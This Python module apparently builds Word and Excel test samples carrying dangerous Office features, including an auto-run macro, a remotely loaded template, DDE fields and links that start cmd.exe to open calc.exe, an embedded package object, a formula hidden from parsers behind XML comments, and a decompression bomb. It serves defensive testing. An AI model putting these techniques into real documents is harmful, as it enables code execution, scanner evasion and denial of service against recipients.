"""Office Open XML (ECMA-376): letters and price lists for Word and Excel, and what makes them dangerous."""

from collections.abc import Mapping
from html import escape

from samples.makers import compound, vba
from samples.makers.goods import LETTERS, PRICE_LIST
from samples.makers.packages import XML, content_types, package, relationships

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
TYPE = "application/vnd.openxmlformats-officedocument"
DEFAULTS = {"rels": "application/vnd.openxmlformats-package.relationships+xml", "xml": "application/xml"}
CORE = "application/vnd.openxmlformats-package.core-properties+xml"
MACRO_DOCUMENT = "application/vnd.ms-word.document.macroEnabled.main+xml"
BINARY_WORKBOOK = "application/vnd.ms-excel.sheet.binary.macroEnabled.main"

Row = tuple[str, str, str]


def docx(language: str = "en") -> bytes:
    """Make a letter."""
    return package(document(language))


def docx_with_macros(language: str = "nl") -> bytes:
    """Make a .docm: a letter with a macro that runs when it is opened."""
    members = document(
        language,
        main=MACRO_DOCUMENT,
        defaults={"bin": "application/vnd.ms-office.vbaProject"},
        links=(("rId9", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin"),),
    )
    return package(members | {"word/vbaProject.bin": vba.project()})


def docx_with_template(language: str = "de") -> bytes:
    """Make a letter that loads its template, and the macros in it, from the web."""
    settings = f'{XML}<w:settings xmlns:w="{WORD}" xmlns:r="{OFFICE}"><w:attachedTemplate r:id="rId1"/></w:settings>'
    template = ("rId1", f"{OFFICE}/attachedTemplate", "https://templates.example/letter.dotm")
    members = document(
        language,
        overrides={"/word/settings.xml": f"{TYPE}.wordprocessingml.settings+xml"},
        links=(("rId9", f"{OFFICE}/settings", "settings.xml"),),
    )
    extra = {"word/settings.xml": settings.encode(), "word/_rels/settings.xml.rels": relationships(template)}
    return package(members | extra)


def docx_with_dde(language: str = "fr") -> bytes:
    """Make a letter with a field that starts a program (DDEAUTO)."""
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve">'
        ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Total</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return package(document(language, more=field))


def docx_with_object(embedded: bytes, name: str = "rekening.zip", language: str = "nl") -> bytes:
    """Make a letter that carries another file as a package to be double-clicked."""
    return package(
        document(
            language,
            defaults={name.rpartition(".")[2]: "application/octet-stream"},
            links=(("rId9", f"{OFFICE}/package", f"embeddings/{name}"),),
            more='<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" '
            f'ProgID="Package" ObjectID="_1" r:id="rId9" xmlns:r="{OFFICE}"/></w:object></w:r></w:p>',
        )
        | {f"word/embeddings/{name}": embedded}
    )


def docx_with_password() -> bytes:
    """Make what Word saves when a password is set (MS-OFFCRYPTO 2.3.4): a compound file round unreadable bytes.

    There is no password: salts and content are the same noise in every build, which nobody can tell from a cipher.
    """
    noise = bytes((n * 197 + n // 251 * 31 + 89) % 256 for n in range(8192))
    key = (
        '<keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" '
        'cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" saltValue="AAECAwQFBgcICQoLDA0ODw=="/>'
    )
    info = (
        f'{XML}<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption" '
        f'xmlns:p="http://schemas.microsoft.com/office/2006/keyEncryptor/password">{key}<dataIntegrity '
        'encryptedHmacKey="AAECAwQFBgcICQoLDA0ODw==" encryptedHmacValue="AAECAwQFBgcICQoLDA0ODw=="/><keyEncryptors>'
        '<keyEncryptor uri="http://schemas.microsoft.com/office/2006/keyEncryptor/password"><p:encryptedKey '
        'spinCount="100000" saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" '
        'cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" saltValue="AAECAwQFBgcICQoLDA0ODw==" '
        'encryptedVerifierHashInput="AAECAwQFBgcICQoLDA0ODw==" encryptedVerifierHashValue="AAECAwQFBgcICQoLDA0ODw==" '
        'encryptedKeyValue="AAECAwQFBgcICQoLDA0ODw=="/></keyEncryptor></keyEncryptors></encryption>'
    )
    streams = {
        "EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00" + info.encode(),
        "EncryptedPackage": (len(noise) - 9).to_bytes(8, "little") + noise,
    }
    return compound.write(streams)


def document(
    language: str,
    *,
    main: str = f"{TYPE}.wordprocessingml.document.main+xml",
    defaults: Mapping[str, str] | None = None,
    overrides: Mapping[str, str] | None = None,
    links: tuple[Row, ...] = (),
    more: str = "",
) -> dict[str, bytes]:
    """Make the members of a letter: `links` are relationships of its main part, `more` goes behind its text."""
    paragraphs = "".join(
        f'<w:p><w:r><w:t xml:space="preserve">{escape(p)}</w:t></w:r></w:p>' for p in LETTERS[language]
    )
    page = (
        '<w:sectPr><w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:top="1417" w:right="1417" w:bottom="1134" w:left="1417" '
    )
    page += 'w:header="708" w:footer="708" w:gutter="0"/></w:sectPr>'
    body = f'{XML}<w:document xmlns:w="{WORD}"><w:body>{paragraphs}{more}{page}</w:body></w:document>'
    styles = (
        f'{XML}<w:styles xmlns:w="{WORD}"><w:style w:type="paragraph" w:default="1" w:styleId="Normal">'
        '<w:name w:val="Normal"/><w:rPr><w:rFonts w:ascii="Calibri" w:hAnsi="Calibri"/><w:sz w:val="22"/></w:rPr>'
        "</w:style></w:styles>"
    )
    parts = {"/word/document.xml": main, "/word/styles.xml": f"{TYPE}.wordprocessingml.styles+xml"}
    return {
        "[Content_Types].xml": content_types(
            DEFAULTS | dict(defaults or {}), parts | {"/docProps/core.xml": CORE} | dict(overrides or {})
        ),
        "_rels/.rels": _root("word/document.xml"),
        "docProps/core.xml": _core(LETTERS[language][0]),
        "word/document.xml": body.encode(),
        "word/styles.xml": styles.encode(),
        "word/_rels/document.xml.rels": relationships(("rId1", f"{OFFICE}/styles", "styles.xml"), *links),
    }


def _root(main: str) -> bytes:
    return relationships(*root_rows(main))


def root_rows(main: str) -> tuple[Row, Row]:
    """Give the relationships that every package has."""
    core = "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties"
    return ("rId1", f"{OFFICE}/officeDocument", main), ("rId2", core, "docProps/core.xml")


def _core(title: str) -> bytes:
    return (
        f'{XML}<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" '
        f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><dc:title>{escape(title)}</dc:title>'
        '<dcterms:created xsi:type="dcterms:W3CDTF">2026-03-16T09:30:00Z</dcterms:created></cp:coreProperties>'
    ).encode()


def xlsx() -> bytes:
    """Make a price list with a formula that multiplies."""
    return package(workbook())


def xlsx_with_dde() -> bytes:
    """Make a price list that starts a program through an external link (DDE)."""
    link = (
        f'{XML}<externalLink xmlns="{SHEET}"><ddeLink ddeService="cmd" ddeTopic="/c calc.exe">'
        '<ddeItems><ddeItem name="A0"/></ddeItems></ddeLink></externalLink>'
    )
    members = workbook(
        overrides={"/xl/externalLinks/externalLink1.xml": f"{TYPE}.spreadsheetml.externalLink+xml"},
        links=(("rId9", f"{OFFICE}/externalLink", "externalLinks/externalLink1.xml"),),
        more=f'<externalReferences><externalReference r:id="rId9" xmlns:r="{OFFICE}"/></externalReferences>',
    )
    return package(members | {"xl/externalLinks/externalLink1.xml": link.encode()})


def xlsx_with_web_formula() -> bytes:
    """Make a price list with a formula that asks an address of the web for its value."""
    return package(workbook(formula='_xlfn.WEBSERVICE("https://rates.example/eur")'))


def xlsx_with_formula_between_comments() -> bytes:
    """Make a price list whose formula stands where who takes words for the end of a cell sees a comment."""
    members = workbook()
    sheet = members["xl/worksheets/sheet1.xml"]
    hidden = (
        b'<sheetData><row><c><v><!--<c><v>--></v></c><c><f>WEBSERVICE("https://rates.example/eur")</f><v>1</v></c>'
        b'<c ph="1"><v>--></v></c></row>'
    )
    return package(members | {"xl/worksheets/sheet1.xml": sheet.replace(b"<sheetData>", hidden, 1)})


def xlsx_bomb(inflated: int = 60 * 1024 * 1024) -> bytes:
    """Make a price list whose sheet is some kilobytes in the package and a flood once inflated."""
    members = workbook()
    sheet = members["xl/worksheets/sheet1.xml"]
    return package(members | {"xl/worksheets/sheet1.xml": sheet + b" " * (inflated - len(sheet))})


def xlsb() -> bytes:
    """Make the frame of a binary workbook (MS-XLSB): the same package, records instead of XML."""
    types = content_types(DEFAULTS | {"bin": BINARY_WORKBOOK}, {"/xl/workbook.bin": BINARY_WORKBOOK})
    return package(
        {
            "[Content_Types].xml": types,
            "_rels/.rels": relationships(("rId1", f"{OFFICE}/officeDocument", "xl/workbook.bin")),
            "xl/workbook.bin": b"\x83\x01\x00\x8f\x01\x00\x90\x01\x00\x84\x01\x00",
        }
    )


def workbook(
    *,
    defaults: Mapping[str, str] | None = None,
    overrides: Mapping[str, str] | None = None,
    links: tuple[Row, ...] = (),
    sheets: str = "",
    more: str = "",
    formula: str = "",
    below: str = "",
) -> dict[str, bytes]:
    """Make the members of a price list: `links` are relationships of the workbook, `below` goes below its cells."""
    main = (
        f'{XML}<workbook xmlns="{SHEET}" xmlns:r="{OFFICE}"><sheets>'
        f'<sheet name="Preise" sheetId="1" r:id="rId1"/>{sheets}</sheets>{more}</workbook>'
    )
    styles = (
        f'{XML}<styleSheet xmlns="{SHEET}"><fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
        '<fills count="1"><fill><patternFill patternType="none"/></fill></fills><borders count="1"><border/></borders>'
        '<cellStyleXfs count="1"><xf/></cellStyleXfs><cellXfs count="1"><xf xfId="0"/></cellXfs></styleSheet>'
    )
    parts = {
        "/xl/workbook.xml": f"{TYPE}.spreadsheetml.sheet.main+xml",
        "/xl/worksheets/sheet1.xml": f"{TYPE}.spreadsheetml.worksheet+xml",
        "/xl/styles.xml": f"{TYPE}.spreadsheetml.styles+xml",
        "/docProps/core.xml": CORE,
    }
    rows = (
        ("rId1", f"{OFFICE}/worksheet", "worksheets/sheet1.xml"),
        ("rId2", f"{OFFICE}/styles", "styles.xml"),
        *links,
    )
    return {
        "[Content_Types].xml": content_types(DEFAULTS | dict(defaults or {}), parts | dict(overrides or {})),
        "_rels/.rels": _root("xl/workbook.xml"),
        "docProps/core.xml": _core("Preisliste"),
        "xl/workbook.xml": main.encode(),
        "xl/styles.xml": styles.encode(),
        "xl/_rels/workbook.xml.rels": relationships(*rows),
        "xl/worksheets/sheet1.xml": _sheet(formula, below),
    }


def _sheet(formula: str, below: str) -> bytes:
    rows = "".join(
        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>{escape(a.name)}</t></is></c>'
        f'<c r="B{n}"><v>{a.quantity}</v></c><c r="C{n}"><v>{a.price}</v></c>'
        f'<c r="D{n}"><f>B{n}*C{n}</f><v>{a.total}</v></c></row>'
        for n, a in enumerate(PRICE_LIST, 1)
    )
    last = len(PRICE_LIST) + 1
    if formula:
        rows += f'<row r="{last}"><c r="A{last}"><f>{escape(formula)}</f><v>0</v></c></row>'
    return f'{XML}<worksheet xmlns="{SHEET}"><sheetData>{rows}</sheetData>{below}</worksheet>'.encode()
